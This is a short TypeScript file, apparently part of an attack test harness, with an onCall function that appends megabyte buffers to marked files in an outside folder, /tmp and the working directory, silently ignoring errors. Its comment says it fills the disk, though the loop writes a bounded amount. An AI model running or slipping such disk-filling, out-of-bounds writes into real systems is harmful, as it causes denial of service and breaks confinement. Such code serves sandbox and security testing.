// Writes until the disk is full.

import * as fs from 'node:fs';

export function onCall(): void {
  for (const folder of [ATTACK.outside, '/tmp', '.'])
    try {
      for (let i = 0; i < 64; i++) fs.appendFileSync(`${folder}/${ATTACK.mark}.bin`, Buffer.alloc(2 ** 20));
    } catch {}
}
